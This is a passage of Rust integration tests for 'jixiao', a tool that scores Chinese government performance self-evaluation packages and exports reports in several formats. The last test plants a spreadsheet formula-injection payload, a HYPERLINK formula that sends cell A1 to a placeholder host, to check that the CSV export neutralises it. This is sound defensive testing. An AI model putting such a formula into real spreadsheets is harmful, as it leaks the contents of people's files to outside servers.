    // The note is printed to its end: with rows a line high, LibreOffice
    // printed its first line and nothing of the rest.
    let all = Command::new("pdftotext")
        .arg(&pdf)
        .arg("-")
        .output()
        .expect("pdftotext");
    let all: String = String::from_utf8_lossy(&all.stdout)
        .chars()
        .filter(|c| !c.is_whitespace())
        .collect();
    let tail: String = long
        .chars()
        .rev()
        .take(12)
        .collect::<Vec<_>>()
        .into_iter()
        .rev()
        .collect();
    assert!(all.contains(&tail), "{tail} not printed");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn district_folder_in_every_format() {
    let dir = district("all");
    let folder = s(&dir);

    let json = jixiao(&["score", "--format", "json", folder]);
    assert_eq!(json.code, Some(1), "a broken file makes the status 1");
    assert!(json.stderr.contains("03-broken.toml"), "{}", json.stderr);
    let units: Vec<Value> = json_of(&json).as_array().expect("array").clone();
    assert_eq!(units.len(), 4);
    let scores: Vec<String> = units.iter().map(|u| u["score"].to_string()).collect();
    assert_eq!(scores, ["\"95\"", "\"92\"", "null", "null"]);
    assert!(
        units[2]["file"]
            .as_str()
            .unwrap_or("")
            .ends_with("03-broken.toml")
    );
    assert_eq!(units[3]["status"], "pending");

    let csv = jixiao(&["score", "--format", "csv", folder]);
    assert_eq!(csv.code, Some(1));
    assert!(csv.stderr.contains("03-broken.toml"));
    let table = parse_csv(&csv.text());
    assert_summary_matches(&table, &units);
    let rank = table[0]
        .iter()
        .position(|h| h == "名次")
        .expect("rank column");
    let ranks: Vec<&str> = table.iter().skip(1).map(|r| r[rank].as_str()).collect();
    assert_eq!(ranks, ["1", "2", "", ""]);

    let out = dir.join("out").join("汇总.xlsx");
    std::fs::create_dir_all(out.parent().expect("parent")).expect("mkdir");
    let xlsx = jixiao(&["score", "--format", "xlsx", "-o", s(&out), folder]);
    assert_eq!(xlsx.code, Some(1));
    assert!(xlsx.stderr.contains("03-broken.toml"));
    assert_summary_matches(&read_xlsx(&out, "汇总"), &units);
    let findings = read_xlsx(&out, "检查发现");
    let total: usize = units
        .iter()
        .map(|u| u["findings"].as_array().map_or(0, Vec::len))
        .sum();
    assert_eq!(findings.len() - 1, total, "every finding of every unit");
    // Numbers as numbers, dates as dates, the pending unit's criteria on
    // the 待评审 sheet.
    let mut book: Xlsx<_> = open_workbook(&out).expect("open");
    let sheet = book.worksheet_range("汇总").expect("汇总");
    let header: Vec<String> = sheet
        .rows()
        .next()
        .expect("header")
        .iter()
        .map(ToString::to_string)
        .collect();
    let at = |name: &str| header.iter().position(|h| h == name).expect(name);
    for r in sheet.rows().skip(1) {
        let failed = r.get(at("状态")).is_some_and(|c| *c == "未能评分");
        if failed {
            continue;
        }
        for name in ["最低分", "最高分"] {
            assert!(
                matches!(r.get(at(name)), Some(Data::Float(_))),
                "{name}: {r:?}"
            );
        }
        assert!(
            matches!(r.get(at("总分")), Some(Data::Float(_) | Data::Empty) | None),
            "{r:?}"
        );
        assert!(
            matches!(r.get(at("送达日期")), Some(Data::DateTime(_))),
            "{r:?}"
        );
    }
    let waiting = read_xlsx(&out, "待评审");
    assert_eq!(
        waiting.len() - 1,
        6,
        "the pending unit's six judged criteria"
    );

    let md = jixiao(&["score", "--format", "markdown", folder]);
    assert_eq!(md.code, Some(1));
    let md = md.text();
    assert_eq!(md.matches("# 绩效自评工作考核评分报告").count(), 3);
    assert!(md.contains("| 总分 | **92** / 100 |"), "the late unit");
    assert!(
        md.contains("待评审，可能范围 **50–100**"),
        "the pending unit"
    );
    assert!(md.contains("# 未能评分的材料") && md.contains("03-broken.toml"));

    let html = jixiao(&["score", "--format", "html", folder]);
    assert_eq!(html.code, Some(1));
    let html = html.text();
    assert_eq!(html.matches("<!DOCTYPE html>").count(), 1, "one document");
    assert_eq!(html.matches("<article class=\"unit\">").count(), 3);
    // Each unit's findings have ids of their own in the one document.
    let mut ids: Vec<&str> = html
        .split(" id=\"")
        .skip(1)
        .filter_map(|rest| rest.split('"').next())
        .collect();
    let count = ids.len();
    ids.sort_unstable();
    ids.dedup();
    assert!(count > 0);
    assert_eq!(ids.len(), count, "ids repeat across units");
    assert!(html.contains("<span class=\"big\">92</span>"));
    assert!(html.contains("未能评分的材料") && html.contains("03-broken.toml"));

    let text = jixiao(&["score", folder]);
    assert_eq!(text.code, Some(1));
    assert!(text.text().contains("总分：92 / 100"));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn out_dir_writes_one_report_per_unit() {
    let dir = district("out-dir");
    for (format, ext) in [("markdown", "md"), ("html", "html"), ("json", "json")] {
        let out = dir.join(format!("reports-{ext}"));
        let run = jixiao(&["score", "--format", format, "--out-dir", s(&out), s(&dir)]);
        assert_eq!(run.code, Some(1), "{format}: {}", run.stderr);
        assert!(run.stdout.is_empty(), "{format}: nothing on stdout");
        assert!(run.stderr.contains("03-broken.toml"), "{}", run.stderr);
        let mut written: Vec<String> = std::fs::read_dir(&out)
            .expect("out dir")
            .filter_map(|e| e.ok()?.file_name().into_string().ok())
            .collect();
        written.sort();
        // In JSON the broken input has its failure object; the reports for
        // people are written for the units scored.
        let mut expected = vec![
            format!("01-example.{ext}"),
            format!("02-late.{ext}"),
            format!("04-no-review.{ext}"),
        ];
        if ext == "json" {
            expected.insert(2, "03-broken.json".to_string());
        }
        assert_eq!(
            written, expected,
            "{format}: one file per unit, no temporary files left"
        );
        let late = std::fs::read_to_string(out.join(format!("02-late.{ext}"))).expect("read");
        match ext {
            "md" => assert!(late.contains("| 总分 | **92** / 100 |")),
            "html" => {
                assert!(late.starts_with("<!DOCTYPE html>"));
                assert!(late.contains("<span class=\"big\">92</span>"));
            }
            _ => {
                let v: Value = serde_json::from_str(&late).expect("JSON");
                assert_eq!(v["score"], "92");
            }
        }
    }
    // A unit scored before and failing now: its old report is said not to
    // be this run's (and left: it may not be ours to delete).
    let out = dir.join("reports-md");
    let late = std::fs::read_to_string(dir.join("02-late.toml")).expect("read");
    std::fs::write(
        dir.join("02-late.toml"),
        late.replacen("[unit]", "[unit", 1),
    )
    .expect("break");
    let run = jixiao(&[
        "score",
        "--format",
        "markdown",
        "--out-dir",
        s(&out),
        s(&dir),
    ]);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    assert!(out.join("02-late.md").exists(), "{}", run.stderr);
    assert!(
        run.stderr.contains("02-late.md 不是本次写出的") && run.stderr.contains("请勿使用或发出"),
        "{}",
        run.stderr
    );
    assert!(out.join("01-example.md").exists());
    // Nothing scored (the judgments could not be read): the folder's files
    // are all said not to be this run's.
    let review = dir.join("评审意见.toml");
    std::fs::write(&review, "format = 1\nkind = \"review\"\n").expect("write review");
    let run = jixiao(&[
        "score",
        "--format",
        "markdown",
        "--reviews",
        s(&review),
        "--out-dir",
        s(&out),
        s(&dir.join("01-example.toml")),
    ]);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    assert!(
        run.stderr.contains("本次没有写出任何报告"),
        "{}",
        run.stderr
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn json_array_keeps_its_layout() {
    // A folder of one gives an array whose item is the single report,
    // indented one level: the parallel batch renders items separately.
    let dir = temp("one");
    std::fs::copy(Path::new(MANIFEST).join(EXAMPLE), dir.join("a.toml")).expect("copy");
    let single = jixiao(&["score", "--format", "json", EXAMPLE]);
    let batch = jixiao(&["score", "--format", "json", s(&dir)]);
    assert_eq!(batch.code, Some(0), "{}", batch.stderr);
    let a = serde_json::to_string_pretty(&Value::Array(vec![json_of(&single)])).expect("json");
    let b = batch.text();
    let a = a.replace(EXAMPLE, s(&dir.join("a.toml")));
    assert_eq!(b.trim_end(), a.trim_end());
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn usage_errors_exit_2() {
    let xlsx = jixiao(&["score", "--format", "xlsx", EXAMPLE]);
    assert_eq!(xlsx.code, Some(2), "xlsx needs -o: {}", xlsx.stderr);
    let dir = temp("usage");
    let csv = jixiao(&["score", "--format", "csv", "--out-dir", s(&dir), EXAMPLE]);
    assert_eq!(csv.code, Some(2), "csv is one table: {}", csv.stderr);
    let both = jixiao(&["score", "-o", "x", "--out-dir", s(&dir), EXAMPLE]);
    assert_eq!(both.code, Some(2));
    let _ = std::fs::remove_dir_all(&dir);
}

/// What people read speaks the documents' language: no output of the
/// example (from its TOML file or its Word package) but the JSON holds an
/// engine path (`projects[0]…`), a record placeholder (`（记录）`) or a
/// check's English id.
#[test]
fn reports_for_people_name_places_in_the_documents_terms() {
    let dir = temp("documents-terms");
    let json = json_of(&jixiao(&["score", "--format", "json", EXAMPLE]));
    let ids: Vec<String> = json["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter_map(|f| f["id"].as_str().map(str::to_string))
        .collect();
    assert!(ids.len() >= 10, "{ids:?}");
    let engine_path = |text: &str| -> Option<String> {
        let bytes = text.as_bytes();
        text.match_indices('[').find_map(|(i, _)| {
            let before = bytes.get(i.checked_sub(1)?)?;
            let after = text.get(i + 1..)?;
            let digits = after.chars().take_while(char::is_ascii_digit).count();
            (before.is_ascii_lowercase() && digits > 0 && after[digits..].starts_with(']'))
                .then(|| text[i.saturating_sub(20)..(i + digits + 2).min(text.len())].to_string())
        })
    };
    let docx = Path::new(MANIFEST).join("examples/2022/yueyanglou-finance-office.docx");
    let docx = docx.display().to_string();
    for input in [EXAMPLE, docx.as_str()] {
        let mut outputs: Vec<(String, String)> = Vec::new();
        for format in ["text", "markdown", "html", "csv"] {
            let run = jixiao(&[
                "score",
                "--received-on",
                "2023-06-14",
                "--format",
                format,
                input,
            ]);
            assert_eq!(run.code, Some(0), "{format}: {}", run.stderr);
            outputs.push((format.to_string(), run.text()));
        }
        let xlsx = dir.join("summary.xlsx");
        let run = jixiao(&[
            "score",
            "--received-on",
            "2023-06-14",
            "--format",
            "xlsx",
            "-o",
            s(&xlsx),
            input,
        ]);
        assert_eq!(run.code, Some(0), "{}", run.stderr);
        let mut book: Xlsx<_> = open_workbook(&xlsx).expect("open xlsx");
        for sheet in book.sheet_names() {
            let range = book.worksheet_range(&sheet).expect("sheet");
            let cells: Vec<String> = range
                .rows()
                .flat_map(|r| r.iter().map(ToString::to_string))
                .collect();
            outputs.push((format!("xlsx {sheet}"), cells.join("\n")));
        }
        for (format, text) in &outputs {
            // The working paper quotes the rule's own lines, which name
            // checks as the rules do: only the words around them count.
            let words = without_rule_code(text);
            let text = &words;
            assert!(
                !text.contains("（记录）"),
                "{input} {format}: a record placeholder"
            );
            if let Some(at) = engine_path(text) {
                panic!("{input} {format}: an engine path: {at}");
            }
            for id in &ids {
                assert!(
                    !text.contains(id.as_str()),
                    "{input} {format}: the check id {id}"
                );
            }
        }
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// Text without the rule excerpts a working paper quotes: fenced blocks
/// (Markdown), numbered source lines (text), source boxes (HTML).
fn without_rule_code(text: &str) -> String {
    let mut out = String::new();
    let mut fenced = false;
    for line in text.lines() {
        if line.starts_with("```") {
            fenced = !fenced;
            continue;
        }
        let numbered = line.trim_start().split_once(" │").is_some_and(|(n, _)| {
            !n.is_empty() && n.trim().chars().all(|c| c.is_ascii_digit() || c == '·')
        });
        if fenced || numbered || line.contains("<div class=\"src\">") {
            continue;
        }
        out.push_str(line);
        out.push('\n');
    }
    out
}

/// A pending report's header gives the points already lost (those the
/// highest possible total lacks), not only "待评审后确定"; and its
/// signature block is kept with what precedes it when printed.
#[test]
fn a_pending_header_gives_the_points_already_lost() {
    let run = jixiao(&[
        "score",
        "--format",
        "html",
        "--received-on",
        "2023-06-20",
        "examples/2022/yueyanglou-finance-office.docx",
    ]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let html = String::from_utf8_lossy(&run.stdout);
    assert!(
        html.contains("<dt>失分</dt><dd>已失 5 分，其余待评审后确定</dd>"),
        "{html}"
    );
    assert!(html.contains("break-before: avoid"), "{html}");
}

/// The parameters a rule reads are among its values, with where the
/// bureau sets them: the deadline of a late package, the tolerance of a
/// check (an auditor traces every number to its rule and its data).
#[test]
fn values_name_the_parameters_a_rule_reads() {
    let run = jixiao(&[
        "score",
        "--format",
        "markdown",
        "--rules",
        "rules/2022",
        "rules/2022/tests/late-3-days.toml",
    ]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let text = String::from_utf8_lossy(&run.stdout);
    assert!(
        text.contains("`deadline` = 2023-06-15（参数，params.jx 第 4 行）"),
        "{text}"
    );
    assert!(
        text.contains("`tolerance` = 0.01（参数，params.jx 第 71 行）"),
        "{text}"
    );
    // The JSON gives them too, with the line that sets each, so that a
    // program recomputes 迟报 3 天 from the JSON alone.
    let run = jixiao(&[
        "score",
        "--format",
        "json",
        "--rules",
        "rules/2022",
        "rules/2022/tests/late-3-days.toml",
    ]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let unit = json_of(&run);
    let timeliness = criteria(&unit)
        .into_iter()
        .find(|n| n["id"] == "timeliness")
        .expect("timeliness");
    let late = &timeliness["deductions"][0];
    assert_eq!(late["values"]["late"], "3", "{late}");
    assert_eq!(
        late["params"]["deadline"],
        serde_json::json!({
            "value": "2023-06-15",
            "rule": { "file": "rules/2022/params.jx", "line": 4, "column": 7 }
        }),
        "{late}"
    );
    // A parameter a finding's statement reads is given with it.
    let tolerance = unit["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .find_map(|f| f["params"].get("tolerance"))
        .unwrap_or_else(|| panic!("{}", unit["findings"]));
    assert_eq!(tolerance["value"], "0.01");
    assert_eq!(tolerance["rule"]["line"], 71);
}

/// A Word package left beside its import is one unit twice: the summaries
/// would rank it twice and are not written; the other formats are, each
/// right for its package, with a warning naming both files.
#[test]
fn one_unit_twice_is_said_and_no_summary_ranks_it_twice() {
    let dir = temp("same-unit-twice");
    let docx = Path::new(MANIFEST).join("examples/2022/yueyanglou-finance-office.docx");
    std::fs::copy(&docx, dir.join("a.docx")).expect("copy docx");
    std::fs::copy(Path::new(MANIFEST).join(EXAMPLE), dir.join("b.toml")).expect("copy toml");
    let said = "a.docx 和 ";
    for format in ["csv", "xlsx"] {
        let out = dir.join(format!("汇总.{format}"));
        let run = jixiao(&[
            "score",
            "--received-on",
            "2023-06-14",
            "--format",
            format,
            "-o",
            s(&out),
            s(&dir),
        ]);
        assert_eq!(run.code, Some(1), "{format}: {}", run.stderr);
        assert!(
            run.stderr.contains(said) && run.stderr.contains("b.toml 是同一单位"),
            "{}",
            run.stderr
        );
        assert!(run.stderr.contains("汇总未写出"), "{}", run.stderr);
        assert!(!out.exists(), "{format}: no summary written");
    }
    // Spaces typed into the name do not make another unit.
    let example = std::fs::read_to_string(Path::new(MANIFEST).join(EXAMPLE)).expect("read");
    let spaced = example.replacen(
        "name = \"岳阳市岳阳楼区人民政府金融工作办公室\"",
        "name = \" 岳阳市岳阳楼区人民政府 金融工作办公室　\"",
        1,
    );
    assert_ne!(spaced, example);
    std::fs::write(dir.join("c.toml"), spaced).expect("write");
    let json = jixiao(&[
        "score",
        "--received-on",
        "2023-06-14",
        "--format",
        "json",
        s(&dir),
    ]);
    assert_eq!(json.code, Some(0), "{}", json.stderr);
    assert_eq!(json_of(&json).as_array().map(Vec::len), Some(3));
    assert_eq!(
        json.stderr.matches("是同一单位").count(),
        2,
        "{}",
        json.stderr
    );
    assert!(
        json.stderr.contains("警告：") && json.stderr.contains(said),
        "{}",
        json.stderr
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// A number computed from several cells names each cell it was read from;
/// where two would read alike (the 分值 of two rows), by row and column,
/// and past the cells the engine keeps, how many at least.
#[test]
fn a_computed_number_names_its_cells_apart() {
    let dir = temp("derivation");
    let example = std::fs::read_to_string(Path::new(MANIFEST).join(EXAMPLE)).expect("read example");
    let changed = example.replacen(
        "\"产出指标\" = 50, \"效益指标\" = 30",
        "\"产出指标\" = 60, \"效益指标\" = 20",
        1,
    );
    assert_ne!(changed, example, "example declares its level-1 weights");
    std::fs::write(dir.join("weights.toml"), changed).expect("write");
    let run = jixiao(&[
        "score",
        "--format",
        "markdown",
        s(&dir.join("weights.toml")),
    ]);
    let text = run.text();
    let rows = text
        .split('；')
        .find(|v| v.contains("`rows` = 50（据"))
        .unwrap_or_else(|| panic!("{text}"));
    assert!(
        rows.contains("产出指标 / 数量指标 / 学习贯彻二十大精神 · 分值 10"),
        "{rows}"
    );
    assert!(!rows.contains("（据 一级指标 产出指标、分值 10"), "{rows}");
    let conforming = text
        .split('；')
        .find(|v| v.contains("`conforming` = "))
        .unwrap_or_else(|| panic!("{text}"));
    assert!(conforming.contains(" 等至少 "), "{conforming}");
    // The JSON says so too: the list holds only the cells the engine kept.
    let run = jixiao(&["score", "--format", "json", s(&dir.join("weights.toml"))]);
    let unit = json_of(&run);
    let weights = criteria(&unit)
        .into_iter()
        .find(|n| n["id"] == "weights")
        .expect("weights");
    let lost = &weights["deductions"][0];
    assert_eq!(
        lost["computed_from"]["conforming"].as_array().map(Vec::len),
        Some(16),
        "{lost}"
    );
    assert_eq!(
        lost["computed_from_capped"],
        serde_json::json!(["conforming"]),
        "{lost}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// The example with three self-checks not done: a lost point of three
/// records, nine cells, and a criterion judged at full marks by the
/// package's own reviewer.
fn undone_self_checks(dir: &Path) -> PathBuf {
    let example = std::fs::read_to_string(Path::new(MANIFEST).join(EXAMPLE)).expect("read example");
    let at = example
        .find("[[self_checks]]")
        .expect("example has self-checks");
    let undone: String = ["第一医院", "疾控中心", "妇幼保健院"]
        .iter()
        .map(|u| format!("[[self_checks]]\nunit = \"岳阳楼区{u}\"\nduty = \"转移支付项目自查\"\ndone = false\n\n"))
        .collect();
    let text = format!("{}{undone}{}", &example[..at], &example[at..]);
    let path = dir.join("undone.toml");
    std::fs::write(&path, text).expect("write");
    path
}

/// The working paper traces every lost point to all its cells (up to a
/// dozen, and says how many more); a criterion judged at full marks still
/// shows who judged it and how; written to a file, its bytes do not
/// depend on the terminal's width.
#[test]
fn the_working_paper_traces_every_cell_and_every_judgment() {
    let dir = temp("working-paper");
    let file = undone_self_checks(&dir);
    for format in ["text", "markdown", "html"] {
        let run = jixiao(&["score", "--format", format, s(&file)]);
        assert_eq!(run.code, Some(0), "{}", run.stderr);
        let out = run.text();
        for line in ["第一医院", "疾控中心", "妇幼保健院"] {
            assert!(
                out.matches(&format!(
                    "自查记录：岳阳楼区{line}（转移支付项目自查） · 是否完成"
                ))
                .count()
                    >= 1,
                "{format}: {line} not traced\n{out}"
            );
        }
    }
    let text = jixiao(&["score", s(&file)]).text();
    assert!(
        text.contains("突出核心指标，精简实用：3 分（评审：区财政局 3 分"),
        "{text}"
    );
    let files: Vec<Vec<u8>> = ["60", "200"]
        .iter()
        .map(|columns| {
            let out = dir.join(format!("paper-{columns}.txt"));
            let run = Command::new(env!("CARGO_BIN_EXE_jixiao"))
                .current_dir(MANIFEST)
                .env("COLUMNS", columns)
                .args(["score", "-o", s(&out), s(&file)])
                .output()
                .expect("run jixiao");
            assert_eq!(run.status.code(), Some(0));
            std::fs::read(&out).expect("written")
        })
        .collect();
    assert_eq!(files[0], files[1], "the file follows COLUMNS");
    let _ = std::fs::remove_dir_all(&dir);
}

/// The summary's 扣分明细 adds up to what each unit lost: deductions of one
/// criterion beyond its points are taken back on a line of their own.
#[test]
fn the_deduction_sheet_adds_up_to_the_points_lost() {
    let dir = temp("deductions-capped");
    let example = std::fs::read_to_string(Path::new(MANIFEST).join(EXAMPLE)).expect("read example");
    // 25 self-checks not done (capped at 20 by the rule) and its own
    // check missing (1 more): 21 of the criterion's 20.
    let late = example
        .replacen("received_on = 2023-06-14", "received_on = 2023-07-30", 1)
        .replacen("duty = \"预算单位自查\"", "duty = \"转移支付项目自查\"", 1);
    assert!(!late.contains("duty = \"预算单位自查\""));
    let undone: String = (1..=25)
        .map(|i| format!("[[self_checks]]\nunit = \"第{i}单位\"\nduty = \"转移支付项目自查\"\ndone = false\n\n"))
        .collect();
    let at = late
        .find("[[self_checks]]")
        .expect("example has self-checks");
    let text = format!("{}{undone}{}", &late[..at], &late[at..]);
    std::fs::write(dir.join("capped.toml"), text).expect("write");
    let out = dir.join("汇总.xlsx");
    let run = jixiao(&[
        "score",
        "--format",
        "xlsx",
        "-o",
        s(&out),
        s(&dir.join("capped.toml")),
    ]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let lines = read_xlsx(&out, "扣分明细");
    let total: f64 = lines
        .iter()
        .skip(1)
        .filter_map(|l| l.get(4).and_then(|p| p.parse::<f64>().ok()))
        .sum();
    let summary = read_xlsx(&out, "汇总");
    let score_col = summary
        .iter()
        .find_map(|r| r.iter().position(|c| c == "总分"))
        .expect("总分 column");
    let score: f64 = summary
        .iter()
        .find_map(|r| r.get(score_col).and_then(|v| v.parse::<f64>().ok()))
        .expect("a score");
    assert!(
        (100.0 - score - total).abs() < 1e-9,
        "lost {} but 扣分明细 adds {total}: {lines:?}",
        100.0 - score
    );
    assert!(
        lines
            .iter()
            .any(|l| l.get(5).is_some_and(|m| m == "扣完为止")),
        "{lines:?}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// A unit's name typed as a formula in its forms stays a text in the CSV
/// summary: Excel and WPS would run `=HYPERLINK(…)` when the bureau opens it.
#[test]
fn a_name_that_starts_a_formula_stays_a_text_in_the_csv() {
    let dir = temp("csv-formula");
    let example = std::fs::read_to_string(Path::new(MANIFEST).join(EXAMPLE)).expect("read example");
    let named = example.replace(
        "\"岳阳市岳阳楼区人民政府金融工作办公室\"",
        "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"点此\")'",
    );
    std::fs::write(dir.join("unit.toml"), named).expect("write");
    let run = jixiao(&["score", "--format", "csv", s(&dir.join("unit.toml"))]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    let text = run.text();
    assert!(
        text.contains(",\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"点此\"\")\","),
        "{text}"
    );
    assert!(!text.contains(",\"=HYPERLINK"), "{text}");
    let _ = std::fs::remove_dir_all(&dir);
}
